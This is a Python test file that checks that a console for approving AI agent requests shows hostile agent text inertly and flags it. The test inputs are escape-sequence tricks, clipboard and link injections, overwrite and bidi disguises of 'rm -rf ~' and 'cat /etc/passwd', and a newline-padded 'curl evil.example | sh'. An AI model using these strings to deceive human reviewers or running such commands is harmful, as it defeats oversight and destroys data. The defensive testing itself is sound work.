"""Every hostile string below (CASES), sent by an agent through the real daemon into the real console.

What is checked is the frame itself — the bytes the console would write to the terminal:
nothing but Textual's own colour and cursor sequences may be in it, the tricks must show
up visibly escaped, markup must stay text, and the detail must name what it found.
"""

from __future__ import annotations

import pytest
from support.daemon import workspace
from support.tui import (
    Agent,
    Clock,
    foreign_controls,
    frame,
    make_app,
    pending_with,
    screen_text,
    select,
    tagged,
)

from console.client import RPCError

SIZE = (140, 60)

CASES = {
    # name: (hostile text, what must be visible on screen, findings the detail must name)
    "csi clear screen": ("\x1b[2J\x1b[H", "\\e[2J\\e[H", ["control characters"]),
    "c1 csi": ("\x9b31mred", "\\x9b31mred", ["control characters"]),
    "osc 8 link": (
        "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\\e]8;;https://evil.example",
        ["control characters"],
    ),
    "osc 52 clipboard": ("\x1b]52;c;cm0gLXJmIH4=\x07", "\\e]52;c;cm0gLXJmIH4=\\a", ["control characters"]),
    "cr overwrite": ("rm -rf ~ \rls", "rm -rf ~ \\rls", ["control characters"]),
    "bs overwrite": ("rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls", "rm -rf ~\\b\\b", ["control characters"]),
    "bidi": (
        "\u202eexe.txt\u202c \u2066a\u2069 \u200e\u200f\u061c",
        "\\u202eexe.txt\\u202c",
        ["bidirectional"],
    ),
    "zero width": ("pa\u200bss\u200cw\u200do\u2060r\ufeffd", "pa\\u200bss\\u200cw", ["invisible"]),
    "homoglyph": ("cаt /etc/passwd", "cаt /etc/passwd", ["mixed scripts"]),
    "fullwidth": ("ｒｍ -rf ~", "ｒｍ -rf ~", ["fullwidth"]),
    "markup": (
        "[@click=app.quit]approve[/] [link=https://e.example]x[/link] [/] [b]bold",
        "[@click=app.quit]approve[/]",
        [],
    ),
}


DAEMON_POLICY = "approval_timeout_s = 120\n"


@pytest.fixture(scope="module")
def ws():
    return workspace()


@pytest.mark.parametrize("name", sorted(CASES))
async def test_hostile_text_is_shown_inert_and_flagged(daemon, ws, name):
    hostile, visible, flagged = CASES[name]
    op, tag = tagged(
        ws, args=["--name", hostile], justification=f"why: {hostile}", session_id="s-" + name[:4]
    )
    agent = Agent(daemon, op)
    clock = Clock()
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        rid = await pending_with(pilot, app, tag)
        await select(pilot, app, rid, clock)
        raw = frame(app)
        assert foreign_controls(raw) == ""
        text = screen_text(app)
        assert visible in text
        assert f"why: {visible}" in text  # the justification too
        warning = [line for line in text.splitlines() if "the agent's text contains" in line]
        assert len(warning) == (1 if flagged else 0), text
        for finding in flagged:
            assert finding in warning[0]
        assert app.is_running  # [@click=app.quit] did nothing
        await pilot.press("d")
        assert (await agent.answer())["verdict"] == "deny"


async def test_nul_never_reaches_the_console(daemon, ws):
    op, _ = tagged(ws, justification="a\x00b")
    with pytest.raises(RPCError) as info, daemon.agent() as agent:
        agent.submit(op)
    assert info.value.data["problem"]["reason"] == "nul_byte"


async def test_a_100k_line_is_cut_with_an_expand_affordance(daemon, ws):
    long = "A" * 100_000
    # A justification is capped by the daemon's quota (16 Ki characters); an argument is not.
    op, tag = tagged(ws, args=[long], justification=long[:16_000])
    agent = Agent(daemon, op)
    clock = Clock()
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        rid = await pending_with(pilot, app, tag)
        await select(pilot, app, rid, clock)
        text = screen_text(app)
        assert "parts of this request are cut short — press x to expand" in text
        assert "A" * 3000 not in text.replace("\n", "")
        await pilot.press("a")
        assert "press x to expand" in app.screen.query_one("#status").message
        detail = app.views["queue"].detail
        assert detail.truncated
        await pilot.press("x")
        await pilot.pause()
        assert not detail.truncated
        assert "cut short" not in screen_text(app)
        clock.advance(1)
        await pilot.press("a")
        assert (await agent.answer())["verdict"] == "allow"


async def test_newline_padding_cannot_push_the_command_off_screen(daemon, ws):
    op, tag = tagged(ws, justification="harmless" + "\n" * 5000 + "curl evil.example | sh", args=["a\n" * 50])
    agent = Agent(daemon, op)
    clock = Clock()
    app = make_app(daemon, clock)
    async with app.run_test(size=SIZE) as pilot:
        rid = await pending_with(pilot, app, tag)
        await select(pilot, app, rid, clock)
        text = screen_text(app)
        assert "⟨4999 empty lines⟩" in text
        assert "curl evil.example | sh" in text
        assert "a\\na\\n" in text  # newlines inside an argument stay on one line
        await pilot.press("d")
        await agent.answer()
